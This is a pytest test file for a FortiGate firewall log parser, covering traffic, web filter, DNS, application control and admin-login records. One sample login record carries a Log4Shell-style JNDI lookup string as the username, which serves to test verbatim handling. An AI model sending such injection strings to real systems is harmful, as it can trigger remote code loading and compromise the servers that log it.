"""FortiGate key=value parser: every record type read, verdicts, time zones, rejects, detection."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.boundary.parsers import golden_files
from typer.testing import Result

from bastion.boundary.parsers import (
    PARSERS,
    ParseContext,
    ParseResult,
    detect_format,
    fortigate,
    get_parser,
)
from bastion.core.events import EVENT_SCHEMA, LINE_COLUMN

# FortiOS 7 traffic log, as (key, value as written) pairs.
TRAFFIC_PAIRS = [
    ("date", "2025-11-25"),
    ("time", "13:01:02"),
    ("devname", '"FGT60F-HQ"'),
    ("devid", '"FGT60FTK2109ABCD"'),
    ("eventtime", "1764075662123456789"),
    ("tz", '"+0000"'),
    ("logid", '"0000000013"'),
    ("type", '"traffic"'),
    ("subtype", '"forward"'),
    ("level", '"notice"'),
    ("vd", '"root"'),
    ("srcip", "10.1.100.11"),
    ("srcport", "58012"),
    ("srcintf", '"internal"'),
    ("srcintfrole", '"lan"'),
    ("dstip", "93.184.216.34"),
    ("dstport", "443"),
    ("dstintf", '"wan1"'),
    ("dstcountry", '"United States"'),
    ("sessionid", "105048"),
    ("proto", "6"),
    ("action", '"close"'),
    ("policyid", "12"),
    ("policytype", '"policy"'),
    ("policyname", '"LAN to WAN"'),
    ("service", '"HTTPS"'),
    ("trandisp", '"snat"'),
    ("transip", "203.0.113.5"),
    ("duration", "116"),
    ("sentbyte", "1188"),
    ("rcvdbyte", "1224"),
    ("sentpkt", "17"),
    ("rcvdpkt", "16"),
    ("appcat", '"unscanned"'),
]
TRAFFIC = "<189>" + " ".join(f"{k}={v}" for k, v in TRAFFIC_PAIRS)
LOCAL_DENY = (
    'Nov 25 13:01:03 relay01 date=2025-11-25 time=14:01:02 tz="+0100" logid="0001000014" '
    'type="traffic" subtype="local" level="notice" srcip=198.51.100.7 srcport=40000 '
    'dstip=203.0.113.5 dstport=443 proto=17 action="deny" policyid=0 service="udp/443" '
    "sentbyte=0 rcvdbyte=0"
)
WEBFILTER = (
    '<190>date=2025-11-25 time=13:05:00 devname="FGT60F-HQ" devid="FGT60FTK2109ABCD" '
    'eventtime=1764075900 tz="+0000" logid="0316013056" type="utm" subtype="webfilter" '
    'eventtype="ftgd_blk" level="warning" vd="root" policyid=12 sessionid=381780 '
    'srcip=10.1.100.11 srcport=44258 srcintf="internal" dstip=185.230.61.185 dstport=443 '
    'dstintf="wan1" proto=6 service="HTTPS" hostname="Malware.Example.COM" profile="default" '
    'action="blocked" reqtype="direct" url="/payload.exe?id=7" sentbyte=96 rcvdbyte=0 '
    'direction="outgoing" msg="URL belongs to a denied category in policy" method="domain" '
    'cat=26 catdesc="Malicious Websites"'
)
WEBFILTER_PASS = (
    'date=2025-11-25 time=13:05:01 devname="fgt 2" eventtime=1764075901000000 logid="0317013312" '
    'type="utm" subtype="webfilter" srcip=10.1.100.12 srcport=44259 dstip=93.184.216.34 '
    'dstport=80 proto=6 service="HTTP" hostname="www.example.com" action="passthrough" '
    'url="http://www.example.com/news/today.html#top" policyname="web \\"general\\""'
)
DNS = (
    '<189>date=2025-11-25 time=13:06:00 devname="FGT60F-HQ" eventtime=1764075960000 tz="+0000" '
    'logid="1501054802" type="utm" subtype="dns" eventtype="dns-response" level="notice" '
    'vd="root" policyid=12 sessionid=10462 srcip=10.1.100.102 srcport=1830 dstip=8.8.8.8 '
    'dstport=53 proto=17 profile="default" xid=12345 qname="WWW.Example.ORG." qtype="aaaa" '
    'qtypeval=28 qclass="IN" msg="Domain is monitored" action="pass" cat=52'
)

FORTIGATE = get_parser("fortigate").parse
Run = Callable[..., Result]


def parse(lines: list[str]) -> ParseResult:
    return FORTIGATE(pl.Series(lines, dtype=pl.String), ParseContext(default_year=2025))


def row(line: str) -> dict[str, object]:
    result = parse([line])
    assert result.rejects.height == 0, result.rejects.to_dicts()
    return result.events.row(0, named=True)


def test_forward_traffic_maps_every_field() -> None:
    result = parse([TRAFFIC])
    assert result.events.columns == [*EVENT_SCHEMA, LINE_COLUMN]
    got = result.events.row(0, named=True)
    assert got == {
        **dict.fromkeys(EVENT_SCHEMA),
        "@timestamp": datetime(2025, 11, 25, 13, 1, 2, 123456, tzinfo=UTC),
        "event.dataset": "fortigate.traffic",
        "event.action": "close",
        "event.type": "allowed",
        "observer.vendor": "Fortinet",
        "observer.product": "FortiGate",
        "observer.name": "FGT60F-HQ",
        "source.ip": "10.1.100.11",
        "source.port": 58012,
        "source.bytes": 1188,
        "destination.ip": "93.184.216.34",
        "destination.port": 443,
        "destination.bytes": 1224,
        "network.transport": "tcp",
        "network.protocol": "https",
        "network.bytes": 2412,
        "rule.name": "LAN to WAN",
        "source.nat.ip": "203.0.113.5",
        "event.original": TRAFFIC,
        LINE_COLUMN: 0,
    }


def test_local_deny_reads_date_time_in_its_zone_and_the_relay_host() -> None:
    got = row(LOCAL_DENY)
    assert got["@timestamp"] == datetime(2025, 11, 25, 13, 1, 2, tzinfo=UTC)
    assert (got["event.dataset"], got["event.action"], got["event.type"]) == (
        "fortigate.traffic",
        "deny",
        "denied",
    )
    assert got["observer.name"] == "relay01"  # no devname=: the syslog host
    assert (got["network.transport"], got["network.protocol"]) == ("udp", None)
    assert got["rule.name"] == "0"  # no policyname=: the policy id
    assert (got["source.bytes"], got["destination.bytes"], got["network.bytes"]) == (0, 0, 0)


def test_blocked_web_request_gives_url_parts() -> None:
    got = row(WEBFILTER)
    assert got["@timestamp"] == datetime(2025, 11, 25, 13, 5, tzinfo=UTC)
    assert (got["event.dataset"], got["event.action"], got["event.type"]) == (
        "fortigate.webfilter",
        "blocked",
        "denied",
    )
    assert got["url.full"] == "https://Malware.Example.COM/payload.exe?id=7"
    assert (got["url.domain"], got["url.path"]) == ("malware.example.com", "/payload.exe")
    assert (got["source.ip"], got["destination.ip"]) == ("10.1.100.11", "185.230.61.185")
    assert got["rule.name"] == "12"


def test_passed_web_request_with_absolute_url_and_escaped_quotes() -> None:
    got = row(WEBFILTER_PASS)
    assert got["@timestamp"] == datetime(2025, 11, 25, 13, 5, 1, tzinfo=UTC)  # microseconds
    assert (got["event.action"], got["event.type"]) == ("passthrough", "allowed")
    assert got["url.full"] == "http://www.example.com/news/today.html#top"
    assert (got["url.domain"], got["url.path"]) == ("www.example.com", "/news/today.html")
    assert got["observer.name"] == "fgt 2"
    assert got["rule.name"] == 'web "general"'


def test_dns_query_gives_question_name_and_type() -> None:
    got = row(DNS)
    assert got["@timestamp"] == datetime(2025, 11, 25, 13, 6, tzinfo=UTC)  # milliseconds
    assert (got["event.dataset"], got["event.action"], got["event.type"]) == (
        "fortigate.dns",
        "pass",
        "allowed",
    )
    assert (got["dns.question.name"], got["dns.question.type"]) == ("www.example.org", "AAAA")
    assert (got["network.transport"], got["network.protocol"]) == ("udp", "dns")
    assert got["url.full"] is None
    assert got["source.bytes"] is None


def test_eventtime_in_seconds_and_nanoseconds_agree() -> None:
    seconds = TRAFFIC.replace("eventtime=1764075662123456789", "eventtime=1764075662")
    times = parse([seconds, TRAFFIC]).events.get_column("@timestamp").to_list()
    assert times[0] == datetime(2025, 11, 25, 13, 1, 2, tzinfo=UTC)
    assert times[1] - times[0] == datetime(2000, 1, 1, 0, 0, 0, 123456) - datetime(2000, 1, 1)


def test_malformed_lines_are_rejected_and_good_ones_still_parse() -> None:
    lines = [
        TRAFFIC,
        'date=2025-11-25 time=13:01:02 logid="0100032001" type="event" subtype="system" msg="x"',
        "this is not a fortigate line",
        TRAFFIC.replace("srcport=58012", "srcport=abc"),
        TRAFFIC.replace("eventtime=1764075662123456789", "eventtime=soon"),
        LOCAL_DENY.replace("time=14:01:02", "time=25:99:00"),
        LOCAL_DENY.replace('tz="+0100"', 'tz="Europe/London"'),
        "",
        DNS,
    ]
    result = parse(lines)
    assert sorted(result.events.get_column(LINE_COLUMN).to_list()) == [0, 8]
    reasons = dict(result.rejects.iter_rows())
    assert reasons == {
        1: "fortigate: type=event subtype=system records other than logins are not read "
        "(action=(none) logdesc=(none))",
        2: "fortigate: no type= field; not a FortiGate key=value log",
        3: "fortigate: srcport=abc is not a number",
        4: "fortigate: eventtime=soon is not an epoch number",
        5: "fortigate: no usable time (date=2025-11-25 time=25:99:00 tz=+0100); "
        "need eventtime= or date=YYYY-MM-DD time=hh:mm:ss [tz=+hhmm]",
        6: "fortigate: no usable time (date=2025-11-25 time=14:01:02 tz=Europe/London); "
        "need eventtime= or date=YYYY-MM-DD time=hh:mm:ss [tz=+hhmm]",
    }


def test_key_inside_another_key_or_a_quoted_value_is_not_taken() -> None:
    line = TRAFFIC.replace('appcat="unscanned"', 'msg="retry srcip=6.6.6.6" xsrcport=1')
    got = row(line)
    assert (got["source.ip"], got["source.port"]) == ("10.1.100.11", 58012)


@settings(max_examples=12, deadline=None)
@given(order=st.permutations(TRAFFIC_PAIRS))
def test_key_order_does_not_change_the_event(order: list[tuple[str, str]]) -> None:
    shuffled = "<189>" + " ".join(f"{k}={v}" for k, v in order)
    expected = row(TRAFFIC)
    got = row(shuffled)
    assert {k: v for k, v in got.items() if k != "event.original"} == {
        k: v for k, v in expected.items() if k != "event.original"
    }


def test_sample_is_detected_as_fortigate_only() -> None:
    sample = [TRAFFIC, WEBFILTER, DNS, LOCAL_DENY]
    assert [p.name for p in PARSERS.values() if p.sniff(sample)] == ["fortigate"]
    assert detect_format(sample).name == "fortigate"


@pytest.mark.parametrize("log", golden_files.cases("fortigate"), ids=lambda p: p.stem)
def test_golden_records_give_every_mapped_field(log: Path) -> None:
    golden_files.check("fortigate", log, ParseContext(default_year=2025, timezone="Europe/London"))


ADMIN_LOGIN_FAILED = (
    '<185>date=2025-11-25 time=13:20:54 devname="FGT60F-HQ" logid="0100032002" type="event" '
    'subtype="system" level="alert" vd="root" eventtime=1764076854 tz="+0000" '
    'logdesc="Admin login failed" sn="0" user="${jndi:ldap://198.51.100.9:1389/a}" '
    'ui="ssh(198.51.100.9)" method="ssh" action="login" status="failed" reason="name_invalid" '
    'msg="Administrator ${jndi:ldap://198.51.100.9:1389/a} login failed from ssh(198.51.100.9)"'
)
APP_CTRL_BLOCK = (
    '<190>date=2025-11-25 time=13:10:00 devname="FGT60F-HQ" eventtime=1764076200 tz="+0000" '
    'logid="1059028704" type="utm" subtype="app-ctrl" eventtype="signature" level="warning" '
    'vd="root" appid=16331 srcip=10.1.100.22 srcport=50400 dstip=185.220.101.4 dstport=9001 '
    'proto=6 service="tcp/9001" policyid=12 action="block" appcat="Proxy" app="Tor" '
    'apprisk="critical"'
)
VPN_EVENT = (
    '<189>date=2025-11-25 time=13:25:00 devname="FGT60F-HQ" logid="0101037139" type="event" '
    'subtype="vpn" level="notice" eventtime=1764077100 logdesc="IPsec phase 2 status change" '
    'action="phase2-up" remip=198.51.100.200 status="success"'
)


def test_records_not_read_are_rejected_by_name_and_the_rest_of_the_file_is_read() -> None:
    email = TRAFFIC.replace('type="traffic" subtype="forward"', 'type="utm" subtype="emailfilter"')
    lines = [VPN_EVENT, TRAFFIC, email, APP_CTRL_BLOCK, ADMIN_LOGIN_FAILED, DNS]
    result = parse(lines)
    assert result.events.get_column(LINE_COLUMN).to_list() == [1, 3, 4, 5]
    assert dict(result.rejects.iter_rows()) == {
        0: "fortigate: type=event subtype=vpn records other than logins are not read "
        "(action=phase2-up logdesc=IPsec phase 2 status change)",
        2: "fortigate: type=utm subtype=emailfilter records are not read (read: traffic; "
        "utm webfilter, dns, app-ctrl, ips, virus, anomaly; event logins)",
    }
    only_unread = parse([VPN_EVENT, email])
    assert (only_unread.events.height, only_unread.rejects.height) == (0, 2)


def test_application_control_block_is_read_with_application_and_risk() -> None:
    got = row(APP_CTRL_BLOCK)
    assert (got["event.dataset"], got["event.action"], got["event.type"]) == (
        "fortigate.app-ctrl",
        "block",
        "denied",
    )
    assert (got["network.application"], got["network.application_risk"]) == ("tor", "critical")
    assert (got["source.ip"], got["destination.port"]) == ("10.1.100.22", 9001)


def test_failed_admin_login_is_an_authentication_failure_with_the_user_verbatim() -> None:
    got = row(ADMIN_LOGIN_FAILED)
    assert (got["event.category"], got["event.outcome"], got["event.action"]) == (
        "authentication",
        "failure",
        "login",
    )
    assert got["user.name"] == "${jndi:ldap://198.51.100.9:1389/a}"
    assert got["source.ip"] == "198.51.100.9"  # no srcip=: the address in ui="ssh(…)"
    assert got["network.protocol"] == "ssh"
    assert got["event.type"] is None  # an outcome, not a traffic verdict


def _local(line: str, zone: str) -> datetime:
    context = ParseContext(default_year=2025, timezone=zone)
    result = FORTIGATE(pl.Series([line], dtype=pl.String), context)
    assert result.rejects.height == 0, result.rejects.to_dicts()
    stamp: datetime = result.events.item(0, "@timestamp")
    return stamp


def test_device_time_takes_the_tz_offset_then_the_source_zone_and_eventtime_first() -> None:
    base = LOCAL_DENY.replace('tz="+0100" ', "")  # date=2025-11-25 time=14:01:02, no zone
    assert _local(base, "UTC") == datetime(2025, 11, 25, 14, 1, 2, tzinfo=UTC)
    assert _local(base, "America/Los_Angeles") == datetime(2025, 11, 25, 22, 1, 2, tzinfo=UTC)
    summer = base.replace("date=2025-11-25", "date=2025-07-01")
    assert _local(summer, "Europe/London") == datetime(2025, 7, 1, 13, 1, 2, tzinfo=UTC)
    pacific = base.replace("time=14:01:02", 'time=14:01:02 tz="-0800"')
    assert _local(pacific, "Europe/London") == datetime(2025, 11, 25, 22, 1, 2, tzinfo=UTC)
    colon = base.replace("time=14:01:02", "time=14:01:02 tz=+05:30")
    assert _local(colon, "UTC") == datetime(2025, 11, 25, 8, 31, 2, tzinfo=UTC)
    with_epoch = pacific.replace("level=", "eventtime=1764079262 level=")
    assert _local(with_epoch, "Asia/Tokyo") == datetime(2025, 11, 25, 14, 1, 2, tzinfo=UTC)


def _verdict(action: str, extra: str = "") -> str | None:
    line = TRAFFIC.replace('action="close"', f'action="{action}"{extra}')
    verdict: str | None = row(line)["event.type"]
    return verdict


@pytest.mark.parametrize(("action", "expected"), sorted(fortigate.VERDICTS.items()))
def test_every_fortigate_action_has_its_verdict(action: str, expected: str | None) -> None:
    assert _verdict(action) == expected
    assert _verdict(action.upper()) == expected


def test_the_verdict_table_covers_the_words_the_issue_names() -> None:
    named = {"accept", "close", "timeout", "server-rst", "client-rst", "deny", "dns", "ip-conn"}
    assert named | {"blocked", "passthrough"} <= set(fortigate.VERDICTS)
    assert _verdict("unheard-of") is None


@pytest.mark.parametrize("action", ["close", "accept", "timeout", "client-rst"])
def test_a_utm_block_makes_the_session_denied(action: str) -> None:
    assert _verdict(action, ' utmaction="block"') == "denied"
    assert _verdict(action, ' utmaction="reset"') == "denied"
    assert _verdict(action, ' utmaction="allow"') == "allowed"


def test_icmp_has_no_ports_even_when_the_line_logs_the_inner_packets() -> None:
    icmp = TRAFFIC.replace("proto=6", "proto=1").replace('service="HTTPS"', 'service="PING"')
    got = row(icmp)
    assert (got["network.transport"], got["source.port"], got["destination.port"]) == (
        "icmp",
        None,
        None,
    )
    icmp6 = row(icmp.replace("proto=1", "proto=58"))
    assert (icmp6["network.transport"], icmp6["source.port"]) == ("ipv6-icmp", None)


def test_nat_users_threat_and_application_fields_are_mapped() -> None:
    line = TRAFFIC.replace(
        'appcat="unscanned"',
        'transport=61012 tranip=10.20.0.10 tranport=8443 unauthuser="bob" dstuser="svc-web" '
        'app="HTTPS.BROWSER" apprisk="Medium" appcat="Web.Client"',
    )
    got = row(line)
    assert (got["source.nat.ip"], got["source.nat.port"]) == ("203.0.113.5", 61012)
    assert (got["destination.nat.ip"], got["destination.nat.port"]) == ("10.20.0.10", 8443)
    assert (got["user.name"], got["destination.user.name"]) == ("bob", "svc-web")
    assert (got["network.application"], got["network.application_risk"]) == (
        "https.browser",
        "medium",
    )
    assert got["rule.name"] == "LAN to WAN"
    user_wins = row(line.replace('unauthuser="bob"', 'user="alice" unauthuser="bob"'))
    assert user_wins["user.name"] == "alice"


def test_a_name_in_an_address_key_is_not_an_address() -> None:
    line = TRAFFIC.replace("srcip=10.1.100.11", "srcip=fw.example.org").replace(
        "transip=203.0.113.5", "transip=N/A"
    )
    got = row(line)
    assert (got["source.ip"], got["source.nat.ip"], got["destination.ip"]) == (
        None,
        None,
        "93.184.216.34",
    )


def test_nat_and_user_reach_the_archive_and_hunts(bastion: Run, tmp_path: Path) -> None:
    assert bastion("init").exit_code == 0
    assert bastion("orgs", "add", "R0A", "Trust", "-n", "10.1.100.0/24").exit_code == 0
    log = tmp_path / "fortigate.log"
    nat_user = TRAFFIC.replace('appcat="unscanned"', 'transport=61012 user="alice"')
    log.write_text(nat_user + "\n")
    ingested = bastion("boundary", "ingest", str(log), "--format", "fortigate", "--json")
    assert ingested.exit_code == 0, ingested.output
    assert json.loads(ingested.stdout)[0]["events"] == 1
    found = bastion(
        "hunt",
        'SELECT "source.nat.ip", "source.nat.port", "user.name", "source.ip" FROM events '
        "WHERE \"user.name\" = 'alice'",
        "--json",
    )
    assert found.exit_code == 0, found.output
    assert json.loads(found.stdout) == [
        {
            "source.nat.ip": "203.0.113.5",
            "source.nat.port": 61012,
            "user.name": "alice",
            "source.ip": "10.1.100.11",
        }
    ]
